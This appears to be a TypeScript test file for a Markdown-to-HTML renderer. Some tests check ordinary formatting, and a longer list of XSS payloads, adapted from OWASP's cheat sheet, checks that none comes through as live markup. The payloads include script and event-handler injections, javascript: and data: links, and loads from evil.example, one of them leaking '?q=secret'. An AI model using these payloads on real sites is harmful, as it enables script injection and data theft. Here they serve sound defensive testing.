import assert from 'node:assert/strict';
import { test } from 'node:test';
import { h } from 'preact';
import { htmlOf } from './markdown/testing/html.ts';
import { draw, type Look, parsed } from './markdown.ts';

const LOOK: Look = { make: h, cite: (number) => `{${number}}`, doubt: 'no source says so', table: 'Table' };

function drawn(markdown: string, look = LOOK, isDoubted = false): string {
  const { blocks, definitions } = parsed(markdown);
  return blocks.map(({ block }) => htmlOf(draw({ block, definitions, isDoubted }, look))).join('');
}

const OUTWARD = 'rel="noopener noreferrer nofollow" target="_blank"';

const CASES: ReadonlyArray<readonly [name: string, markdown: string, html: string]> = [
  ['emphasis', '*a* **b** ~~c~~', '<p><em>a</em> <strong>b</strong> <del>c</del></p>'],
  ['headings below that of the question', '## a\n##### b\n# c', '<h3>a</h3><h4>b</h4><h3>c</h3>'],
  [
    'a table with its frame',
    '| a | b |\n| --- | ---: |\n| 1 | 2 |',
    '<div aria-label="Table" class="wide" role="group" tabIndex="0"><table><thead><tr><th>a</th><th align="right">b</th></tr></thead><tbody><tr><td>1</td><td align="right">2</td></tr></tbody></table></div>',
  ],
  [
    'a citation behind a row in its last cell',
    '| a |\n| - |\n| 1 |\uE0002\uE001',
    '<div aria-label="Table" class="wide" role="group" tabIndex="0"><table><thead><tr><th>a</th></tr></thead><tbody><tr><td>1 {2}</td></tr></tbody></table></div>',
  ],
  ['code as it is', '```js\n<b> & *c*\n```', '<pre tabIndex="0"><code>&lt;b> &amp; *c*</code></pre>'],
  ['a list within a list', '- a\n  - b\n- c', '<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>'],
  ['an airy list with its paragraphs', '3. a\n\n4. b', '<ol start="3"><li><p>a</p></li><li><p>b</p></li></ol>'],
  ['things to do', '- [x] a\n- [ ] b', '<ul><li class="task">☑ a</li><li class="task">☐ b</li></ul>'],
  ['a quote and a rule', '> a\n\n---', '<blockquote><p>a</p></blockquote><hr></hr>'],
  ['line ends that are kept', 'a  \nb<br>c', '<p>a<br></br>b<br></br>c</p>'],
  [
    'a link outward',
    '[a](https://x.example/y)',
    `<p><a href="https://x.example/y" ${OUTWARD} title="https://x.example/y">a</a></p>`,
  ],
  [
    'a bare address without the full stop',
    'See https://x.example/y.',
    `<p>See <a href="https://x.example/y" ${OUTWARD} title="https://x.example/y">https://x.example/y</a>.</p>`,
  ],
  ['a picture as its words', '![a *b*](https://x.example/y.png)', '<p>a b</p>'],
  ['emphasis that ends before a citation', '**"a"**\uE0001\uE001', '<p><strong>"a"</strong>{1}</p>'],
  ['emphasis beside letters without spaces', '**「값」**은', '<p><strong>「값」</strong>은</p>'],
  [
    'a sentence in doubt, over what stands in it',
    '\uE002a *b* c\uE003 d',
    '<p><span class="doubted" title="no source says so">a </span><em><span class="doubted" title="no source says so">b</span></em><span class="doubted" title="no source says so"> c</span> d</p>',
  ],
];

for (const [name, markdown, html] of CASES) {
  test(`draw: ${name}`, () => assert.equal(drawn(markdown), html));
}

test('draw: a sentence in doubt goes on from the block before', () => {
  assert.equal(drawn('a\uE003 b', LOOK, true), '<p><span class="doubted" title="no source says so">a</span> b</p>');
});

test('draw: what stands beside code is told its text without our marks', () => {
  const told: string[] = [];
  const look = { ...LOOK, onCode: (text: string) => told.push(text) };
  drawn('```\na\uE0001\uE001 b\n```\n\n- x\n  ```\n  c\n  ```', look);
  assert.deepEqual(told, ['a b', 'c']);
});

/**
 * The usual ways into a page; none of them is more than text here, or a link that leads to where it says.
 * After OWASP, "XSS Filter Evasion Cheat Sheet", and what has been found in other readers of Markdown.
 */
const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg/onload=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src=javascript:alert(1)>',
  '<form action=javascript:alert(1)><button>go</button></form>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>*{background:url(https://evil.example/)}</style>',
  '<a href="javascript:alert(1)">a</a>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<input autofocus onfocus=alert(1)>',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a]( javascript:alert(1))',
  '[a](<javascript:alert(1)>)',
  '[a](<java\tscript:alert(1)>)',
  '[a](java\nscript:alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](javascript&colon;alert(1))',
  '[a](javascript&#58;alert(1))',
  '[a](&#x6A;avascript:alert(1))',
  '[a](&#0000106;avascript:alert(1))',
  '[a](javascript\\:alert(1))',
  '[a](javascript:%61lert(1))',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](blob:https://x.example/1)',
  '[a](file:///etc/passwd)',
  '[a](view-source:https://x.example/)',
  '[a](//evil.example/x)',
  '[a](/api/sign-out)',
  '[a](?delete=all)',
  '[a](#top)',
  '[a][1]\n\n[1]: javascript:alert(1)',
  '[1]: data:text/html,x\n\n[1]',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '![a](javascript:alert(1))',
  '![a](https://evil.example/?q=secret)',
  '![a"onerror="alert(1)](x)',
  '[![a](https://evil.example/p.png)](javascript:alert(1))',
  '`<script>alert(1)</script>`',
  '```html"onload="alert(1)\n<script>alert(1)</script>\n```',
  '| <img src=x onerror=alert(1)> |\n| --- |\n| [a](javascript:alert(1)) |',
  '# <img src=x onerror=alert(1)>',
  '- <img src=x onerror=alert(1)>\n\n  > [a](javascript:alert(1))',
  '\\<script>alert(1)\\</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '**<b onmouseover=alert(1)>**',
  '[\u202Egnp.exe](javascript:alert(1))',
  'javascript:alert(1) www.javascript:alert(1)',
];

const NAMES = new Set(
  'p h3 h4 h5 h6 blockquote pre code ul ol li hr br a em strong del span div table thead tbody tr th td'.split(' '),
);
const ATTRIBUTES = new Set('href title target rel align class role aria-label start tabIndex'.split(' '));

function* tagsIn(html: string): Generator<readonly [name: string, attributes: string]> {
  for (const [, name = '', attributes = ''] of html.matchAll(/<([^/\s>]+)((?: [\w-]+="[^"]*")*)>/g))
    yield [name, attributes];
}

for (const attack of ATTACKS) {
  test(`draw: does nothing for ${JSON.stringify(attack)}`, () => {
    let seen = 0;
    for (const [name, attributes] of tagsIn(drawn(attack))) {
      seen += 1;
      assert.ok(NAMES.has(name), name);
      for (const [, attribute = '', value = ''] of attributes.matchAll(/ ([\w-]+)="([^"]*)"/g)) {
        assert.ok(ATTRIBUTES.has(attribute), attribute);
        if (attribute === 'href') assert.match(value, /^(?:https?|mailto):/);
      }
    }
    assert.ok(seen > 0);
  });
}

test('draw: of the attacks only an address that stands outside of tags leads anywhere, and there', () => {
  const tags = ATTACKS.flatMap((attack) => [...tagsIn(drawn(attack))]);
  const places = tags.flatMap(([, attributes]) => / href="([^"]*)"/.exec(attributes)?.[1] ?? []);
  assert.equal(places.length, 1);
  for (const place of places) assert.match(place, /^https:\/\/evil\.example\//);
});

test('draw: a text can not forge a citation, nor spell one', () => {
  assert.equal(drawn('&#xE000;1&#xE001; &#57344;1&#57345;'), '<p>\uFFFD1\uFFFD \uFFFD1\uFFFD</p>');
});
